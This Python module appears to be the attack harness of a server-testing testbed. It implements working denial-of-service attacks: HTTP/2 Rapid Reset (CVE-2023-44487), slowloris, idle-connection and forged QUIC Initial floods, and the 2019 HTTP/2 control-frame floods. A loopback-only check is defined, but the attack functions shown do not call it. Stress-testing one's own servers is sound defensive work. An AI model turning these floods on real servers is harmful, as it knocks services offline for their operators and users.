"""The attacks of ``testbed abuse``: each a plain blocking function run in its own process,
on loopback only, bounded in count and in time, returning a one-line outcome.

Attackers send from :data:`ATTACKER_ADDR` (127.0.0.2, still loopback) so that a server's
per-source caps can tell them from the normal client on 127.0.0.1, as they would tell two
hosts apart. Nothing here leaves the host: :func:`check_loopback` refuses any other target.
"""

from __future__ import annotations

import functools
import ipaddress
import os
import select
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import hpack

from servers.guard import H2_PREFACE

ATTACKER_ADDR = "127.0.0.2"
"""Source address of every attack (loopback; the normal probes come from 127.0.0.1)."""
QUIC_VERSION_1 = 0x00000001
"""RFC 9000."""
QUIC_INITIAL_BYTES = 1200
"""RFC 9000 section 14.1: a client's Initial datagram is at least 1200 bytes."""
QUIC_CID_BYTES = 8
H2_FRAME_HEADER = struct.Struct(">HBBBL")
"""9-byte HTTP/2 frame header: length (24 bits as H+B), type, flags, stream id."""
H2_DATA, H2_HEADERS, H2_PRIORITY, H2_RST_STREAM, H2_SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
H2_PING, H2_GOAWAY, H2_WINDOW_UPDATE, H2_CONTINUATION = 0x6, 0x7, 0x8, 0x9
H2_FLAG_ACK = H2_FLAG_END_STREAM = 0x1
H2_FLAG_END_HEADERS = 0x4
H2_CANCEL = 0x8
H2_DEFAULT_FRAME_BYTES = 16_384
"""SETTINGS_MAX_FRAME_SIZE before the peer's SETTINGS (RFC 9113 section 6.5.2)."""
H2_INITIAL_WINDOW_BYTES = 65_535
RAPID_RESET_BATCH = 2_000
"""HEADERS+RST_STREAM pairs written per send."""
FLOOD_BATCH_FRAMES = 2_000
"""Control frames written per send in a flood."""
FLOOD_READ_S = 3.0
"""After a flood connection stops taking frames: how long what the server sent is read,
looking for its GOAWAY (behind every reply the flood never read)."""
H2_SETTINGS_HEADER_TABLE_SIZE = 0x1
"""RFC 9113 section 6.5.2: a setting every SETTINGS frame of the flood carries (its value
unchanged, so the server does the work of applying and acknowledging it, nothing more)."""
FLOOD_SETTLE_S = 0.2
"""Pause between a flood's opening and its frames: the server answers the opening (resets
the refused request's stream) before the flood arrives."""
H2_MAX_STREAM_ID = 2**31 - 1
IO_TIMEOUT_S = 5.0


def check_loopback(host: str) -> None:
    """Attacks go to loopback only."""
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"abuse: {host} is not a loopback address")


@dataclass(frozen=True)
class Target:
    host: str
    h2_port: int
    h3_port: int


def _tcp(target: Target) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind((ATTACKER_ADDR, 0))
    sock.settimeout(IO_TIMEOUT_S)
    sock.connect((target.host, target.h2_port))
    return sock


@functools.cache
def _tls_context() -> ssl.SSLContext:
    """One context (building one loads the CA store: ~150 ms)."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


def _tls(target: Target) -> ssl.SSLSocket:
    return _tls_context().wrap_socket(_tcp(target), server_hostname="testbed.local")


def _tls_or_pause(target: Target) -> ssl.SSLSocket | None:
    """A TLS connection to ``target``; None after a 50 ms pause when it refused (a server
    at its connection limit): the attacker's loop tries again."""
    try:
        return _tls(target)
    except OSError:
        time.sleep(0.05)
        return None


def _connections(
    target: Target, deadline: float, more: Callable[[], bool]
) -> Iterator[ssl.SSLSocket]:
    """TLS connections to ``target``, one after another while ``more()`` holds and the
    deadline is ahead (a refused attempt pauses and tries again); the caller closes each."""
    while more() and time.monotonic() < deadline:
        sock = _tls_or_pause(target)
        if sock is not None:
            yield sock


def _h2_client() -> h2.connection.H2Connection:
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    return conn


def _readable(sock: socket.socket, timeout_s: float = 0.0) -> bool:
    """poll(), not select(): an attack holds more than 1024 descriptors."""
    if isinstance(sock, ssl.SSLSocket) and sock.pending():
        return True
    poller = select.poll()
    poller.register(sock, select.POLLIN)
    return bool(poller.poll(int(timeout_s * 1000)))


def _drain(sock: socket.socket) -> bytes | None:
    """What the peer sent so far without blocking; None once it closed."""
    data = b""
    while _readable(sock):
        try:
            chunk = sock.recv(65_536)
        except (OSError, ssl.SSLError):
            return None
        if not chunk:
            return None
        data += chunk
    return data


def forged_initial(rng: Callable[[int], bytes] = os.urandom) -> bytes:
    """A 1200-byte datagram that parses as a QUIC v1 Initial with random connection IDs, no
    token and a random (undecryptable) payload: what a spoofing flood sends."""
    dcid, scid = rng(QUIC_CID_BYTES), rng(QUIC_CID_BYTES)
    head = bytes([0xC3]) + QUIC_VERSION_1.to_bytes(4, "big")
    head += bytes([len(dcid)]) + dcid + bytes([len(scid)]) + scid + b"\x00"  # token length 0
    remaining = QUIC_INITIAL_BYTES - len(head) - 2
    head += (0x4000 | remaining).to_bytes(2, "big")  # 2-byte varint length
    return head + rng(remaining)


def initial_flood(target: Target, duration_s: float, burst: int, rate_per_s: int) -> str:
    """``burst`` forged Initials at once, then ``rate_per_s`` until ``duration_s``."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((ATTACKER_ADDR, 0))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # replies are not read
    sent = 0
    pool = [forged_initial() for _ in range(256)]
    start = time.monotonic()
    addr = (target.host, target.h3_port)
    try:
        while True:
            elapsed = time.monotonic() - start
            if elapsed >= duration_s:
                break
            due = burst + int(elapsed * rate_per_s)
            while sent < due:
                packet = bytearray(pool[sent % len(pool)])
                packet[6:14] = os.urandom(QUIC_CID_BYTES)  # a new connection ID each time
                try:
                    sock.sendto(packet, addr)
                except OSError:
                    pass
                sent += 1
            time.sleep(0.005)
    finally:
        sock.close()
    return f"{sent} forged Initials ({sent * QUIC_INITIAL_BYTES / 1e6:.1f} MB)"


def _header_blocks() -> tuple[bytes, bytes]:
    """HPACK blocks of ``GET /tts``: the first (which fills the peer's dynamic table) and the
    one every later stream repeats (indexed fields only: the table does not change)."""

    encoder = hpack.Encoder()
    headers = [
        (":method", "GET"),
        (":path", "/tts"),
        (":scheme", "https"),
        (":authority", "testbed.local"),
    ]
    return encoder.encode(headers), encoder.encode(headers)


def rapid_reset(target: Target, duration_s: float, streams: int) -> str:
    """HEADERS then RST_STREAM(CANCEL) at once, ``streams`` times (CVE-2023-44487), frames
    written in batches as fast as the socket takes them; a new connection whenever the
    server closes one."""
    first_block, block = _header_blocks()
    cancel = H2_CANCEL.to_bytes(4, "big")
    flags = H2_FLAG_END_STREAM | H2_FLAG_END_HEADERS
    deadline = time.monotonic() + duration_s
    sent = connections = goaways = 0

    for sock in _connections(target, deadline, lambda: sent < streams):  # noqa: B023 (read as it grows)
        connections += 1
        peer = _PeerFrames()
        stream_id = 1
        try:
            sock.sendall(H2_PREFACE + _frame(H2_SETTINGS, 0, 0))
            while sent < streams and time.monotonic() < deadline:
                batch = []
                for _ in range(min(RAPID_RESET_BATCH, streams - sent)):
                    head = first_block if stream_id == 1 else block
                    batch.append(_frame(H2_HEADERS, flags, stream_id, head))
                    batch.append(_frame(H2_RST_STREAM, 0, stream_id, cancel))
                    stream_id += 2
                    sent += 1
                sock.sendall(b"".join(batch))
                incoming = _drain(sock)
                if incoming is None:
                    break
                peer.feed(incoming)
                if peer.goaway:
                    break
                sock.sendall(peer.take_replies())
            # all sent: hold the connection until the deadline or the server closes it
            while time.monotonic() < deadline and not peer.goaway:
                _readable(sock, 0.05)
                incoming = _drain(sock)
                if incoming is None:
                    break
                peer.feed(incoming)
                sock.sendall(peer.take_replies())
            goaways += peer.goaway
        except (OSError, ssl.SSLError):
            pass
        finally:
            sock.close()
    return f"{sent} HEADERS+RST_STREAM on {connections} connections, {goaways} GOAWAY"


def slowloris(target: Target, duration_s: float, connections: int, byte_interval_s: float) -> str:
    """``connections`` TLS connections, each sending its first request's HEADERS frame one
    byte every ``byte_interval_s``; counts how many the server still holds at the end."""
    socks: list[ssl.SSLSocket] = []
    heads: list[bytes] = []
    for _ in range(connections):
        try:
            sock = _tls(target)
        except OSError:
            continue
        conn = _h2_client()
        sock.sendall(conn.data_to_send())
        conn.send_headers(
            1,
            [(":method", "GET"), (":path", "/tts"), (":scheme", "https"), (":authority", "x")],
            end_stream=True,
        )
        heads.append(conn.data_to_send())
        socks.append(sock)
    opened = len(socks)
    alive = [True] * opened
    start = time.monotonic()
    position = 0
    while time.monotonic() - start < duration_s:
        for index, sock in enumerate(socks):
            if not alive[index]:
                continue
            head = heads[index]
            try:
                if _drain(sock) is None:
                    alive[index] = False
                    continue
                if position < len(head) - 1:  # never the last byte: the head stays partial
                    sock.send(head[position : position + 1])
            except (OSError, ssl.SSLError):
                alive[index] = False
        position += 1
        time.sleep(byte_interval_s)
    held = sum(alive)
    for sock in socks:
        sock.close()
    return f"{held} of {opened} slow connections still held after {duration_s:g} s"


def idle_flood(target: Target, duration_s: float, connections: int) -> str:
    """``connections`` TCP connections that never send a byte; counts how many connected and
    how many the server still holds at the end."""
    socks = []
    for _ in range(connections):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind((ATTACKER_ADDR, 0))
        sock.setblocking(False)
        try:
            sock.connect((target.host, target.h2_port))
        except BlockingIOError:
            pass
        except OSError:
            sock.close()
            continue
        socks.append(sock)
    time.sleep(min(1.0, duration_s))
    connected = 0
    for sock in socks:
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            connected += 1
    start = time.monotonic()
    while time.monotonic() - start < duration_s - 1.0:
        time.sleep(0.1)
    held = 0
    for sock in socks:
        try:
            if _readable(sock) and sock.recv(1) == b"":
                continue
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                held += 1
        except OSError:
            continue
    for sock in socks:
        sock.close()
    return f"{connected} of {connections} connected, {held} still open after {duration_s:g} s"


def _frames(buffer: bytearray) -> list[tuple[int, int, int, bytes]]:
    """Whole frames parsed off the front of ``buffer``: (type, flags, stream, payload)."""
    frames = []
    while len(buffer) >= H2_FRAME_HEADER.size:
        high, low, ftype, flags, stream = H2_FRAME_HEADER.unpack_from(buffer)
        length = (high << 8) | low
        if len(buffer) < H2_FRAME_HEADER.size + length:
            break
        body = bytes(buffer[H2_FRAME_HEADER.size : H2_FRAME_HEADER.size + length])
        del buffer[: H2_FRAME_HEADER.size + length]
        frames.append((ftype, flags, stream & 0x7FFFFFFF, body))
    return frames


def _frame(ftype: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    size = len(payload)
    return H2_FRAME_HEADER.pack(size >> 8, size & 0xFF, ftype, flags, stream) + payload


class _PeerFrames:
    """The server's side of a raw HTTP/2 connection: SETTINGS acknowledged, connection
    window credit and GOAWAY noted; the bytes to answer with in ``replies``."""

    def __init__(self) -> None:
        self.inbound = bytearray()
        self.credit = 0
        self.goaway = False
        self.replies = b""

    def feed(self, data: bytes) -> None:
        self.inbound += data
        for ftype, flags, stream, body in _frames(self.inbound):
            if ftype == H2_SETTINGS and not flags & H2_FLAG_ACK:
                self.replies += _frame(H2_SETTINGS, H2_FLAG_ACK, 0)
            elif ftype == H2_WINDOW_UPDATE and stream == 0:
                self.credit += int.from_bytes(body[:4], "big") & 0x7FFFFFFF
            elif ftype == H2_GOAWAY:
                self.goaway = True

    def take_replies(self) -> bytes:
        replies, self.replies = self.replies, b""
        return replies


def send_after_reset(target: Target, duration_s: float, max_bytes: int) -> str:
    """POST with a declared body over the server's limit (413 and RST_STREAM at once), then
    DATA on that stream regardless, within the connection window the server keeps crediting,
    until the server closes, ``max_bytes`` or ``duration_s``."""
    sock = _tls(target)
    conn = _h2_client()
    conn.send_headers(
        1,
        [
            (":method", "POST"),
            (":path", "/asr"),
            (":scheme", "https"),
            (":authority", "x"),
            ("content-length", str(10**12)),
        ],
    )
    sock.sendall(conn.data_to_send())
    peer = _PeerFrames()
    window = H2_INITIAL_WINDOW_BYTES
    sent = 0
    payload = os.urandom(H2_DEFAULT_FRAME_BYTES)
    frame = _frame(H2_DATA, 0, 1, payload)
    start = time.monotonic()
    stop = "time limit"
    try:
        while time.monotonic() - start < duration_s:
            if sent >= max_bytes:
                stop = "byte limit"
                break
            data = _drain(sock)
            if data is None:
                stop = "server closed"
                break
            peer.feed(data)
            window += peer.credit
            peer.credit = 0
            sock.sendall(peer.take_replies())
            if window < len(payload):
                _readable(sock, 0.05)
                continue
            sock.sendall(frame)
            window -= len(payload)
            sent += len(payload)
    except (OSError, ssl.SSLError):
        stop = "server closed"
    finally:
        sock.close()
    return f"{sent / 1e6:.1f} MB sent after the reset; stop: {stop}" + (
        ", GOAWAY seen" if peer.goaway else ""
    )


@dataclass(frozen=True)
class Flood:
    """One kind of HTTP/2 control-frame flood: the frames that open it (after the preface and
    the client's SETTINGS) and the ``i``-th frame of the flood."""

    what: str
    """How the outcome line names the frames."""
    opening: Callable[[], bytes]
    frame: Callable[[int], bytes]


def _nothing() -> bytes:
    return b""


def _settings_frame(_: int) -> bytes:
    return _frame(H2_SETTINGS, 0, 0, struct.pack(">HL", H2_SETTINGS_HEADER_TABLE_SIZE, 4096))


def _ping_frame(i: int) -> bytes:
    return _frame(H2_PING, 0, 0, i.to_bytes(8, "big"))


def _upload_head() -> bytes:
    """HEADERS of an upload whose body never comes (the stream the empty DATA frames use)."""

    headers = [(":method", "POST"), (":path", "/sink"), (":scheme", "https"),
               (":authority", "x"), ("content-length", "1000000")]  # fmt: skip
    block = hpack.Encoder().encode(headers)
    return _frame(H2_HEADERS, H2_FLAG_END_HEADERS, 1, block)


def _empty_data_frame(_: int) -> bytes:
    return _frame(H2_DATA, 0, 1)


def _priority_frame(i: int) -> bytes:
    """PRIORITY on idle stream 2i+1 (depends on stream 0, weight 16)."""
    stream = (2 * i + 1) % H2_MAX_STREAM_ID
    return _frame(H2_PRIORITY, 0, stream, struct.pack(">LB", 0, 15))


def _window_update_frame(_: int) -> bytes:
    return _frame(H2_WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))


def _refused_head() -> bytes:
    """HEADERS (no END_STREAM) of a request head the server refuses, a header value that is
    not UTF-8: the server resets stream 1 with RST_STREAM(PROTOCOL_ERROR)."""

    headers = [(b":method", b"POST"), (b":path", b"/sink"), (b":scheme", b"https"),
               (b":authority", b"x"), (b"x-bad", b"\xff")]  # fmt: skip
    return _frame(H2_HEADERS, H2_FLAG_END_HEADERS, 1, hpack.Encoder().encode(headers))


def _closed_stream_data_frame(_: int) -> bytes:
    """One byte of DATA on the stream the server reset: h2 answers each with RST_STREAM
    (STREAM_CLOSED), 13 bytes out for 10 in (CVE-2019-9514)."""
    return _frame(H2_DATA, 0, 1, b"x")


def _unknown_frame(i: int) -> bytes:
    """A frame of a type no one defined (0xFA), which RFC 9113 section 5.5 says to ignore."""
    return _frame(0xFA, 0, 0, i.to_bytes(8, "big"))


def _priority_update_frame(i: int) -> bytes:
    """RFC 9218 PRIORITY_UPDATE (0x10) for idle stream 2i+1: scheduler state and a log line
    for a stream that does not exist."""
    stream = (2 * i + 1) % H2_MAX_STREAM_ID
    return _frame(0x10, 0, 0, stream.to_bytes(4, "big") + b"u=1, i")


FLOODS: dict[str, Flood] = {
    "settings": Flood("SETTINGS", _nothing, _settings_frame),
    "ping": Flood("PING", _nothing, _ping_frame),
    "empty-data": Flood("empty DATA", _upload_head, _empty_data_frame),
    "priority": Flood("PRIORITY", _nothing, _priority_frame),
    "window-update": Flood("WINDOW_UPDATE", _nothing, _window_update_frame),
    "reset": Flood("DATA-on-a-reset-stream", _refused_head, _closed_stream_data_frame),
    "unknown": Flood("unknown-type", _nothing, _unknown_frame),
    "priority-update": Flood("PRIORITY_UPDATE", _nothing, _priority_update_frame),
}
"""The 2019 HTTP/2 advisories' classes: CVE-2019-9515 (settings), 9512 (ping), 9518 (empty
frames), 9513-like (priority churn), window updates, 9514 (reset flood)."""


class _GoawayScan:
    """Finds a GOAWAY in what the server sent without keeping it (a flood's replies run to
    tens of MB): frame headers are stepped over, bodies never copied."""

    def __init__(self) -> None:
        self._buffer = bytearray()
        self.goaway = False
        self.bytes = 0

    def feed(self, data: bytes) -> None:
        self.bytes += len(data)
        buffer = self._buffer
        buffer += data
        offset = 0
        header = H2_FRAME_HEADER.size
        while len(buffer) - offset >= header:
            high, low, ftype, _, _ = H2_FRAME_HEADER.unpack_from(buffer, offset)
            end = offset + header + ((high << 8) | low)
            if end > len(buffer):
                break
            self.goaway = self.goaway or ftype == H2_GOAWAY
            offset = end
        del buffer[:offset]


def _read_replies(sock: ssl.SSLSocket, scan: _GoawayScan, deadline: float) -> None:
    """Read until the server closes, its GOAWAY is seen or ``deadline``."""
    while time.monotonic() < deadline and not scan.goaway:
        if not _readable(sock, 0.05):
            continue
        try:
            chunk = sock.recv(1 << 20)
        except (OSError, ssl.SSLError):
            return
        if not chunk:
            return
        scan.feed(chunk)


def control_flood(target: Target, duration_s: float, kind: str, frames: int) -> str:
    """Up to ``frames`` frames of the flood ``kind`` (:data:`FLOODS`) as fast as the server
    takes them, never reading what it answers; when a connection stops taking frames (or at
    the end) what the server sent is read for its GOAWAY; then a new connection."""
    flood = FLOODS[kind]
    deadline = time.monotonic() + duration_s
    sent = connections = goaways = 0
    replies_bytes = 0

    for sock in _connections(target, deadline, lambda: sent < frames):  # noqa: B023 (read as it grows)
        connections += 1
        scan = _GoawayScan()
        try:
            sock.sendall(H2_PREFACE + _frame(H2_SETTINGS, 0, 0) + flood.opening())
            time.sleep(FLOOD_SETTLE_S)
            index = 0
            while sent < frames and time.monotonic() < deadline:
                count = min(FLOOD_BATCH_FRAMES, frames - sent)
                sock.sendall(b"".join(flood.frame(index + i) for i in range(count)))
                index += count
                sent += count
        except (OSError, ssl.SSLError):
            pass  # the server stopped reading (a send timed out) or closed
        _read_replies(sock, scan, time.monotonic() + FLOOD_READ_S)
        sock.close()
        goaways += scan.goaway
        replies_bytes += scan.bytes
    return (
        f"{sent} {flood.what} frames on {connections} connections, replies unread until the "
        f"end ({replies_bytes / 1e6:.1f} MB), {goaways} GOAWAY"
    )
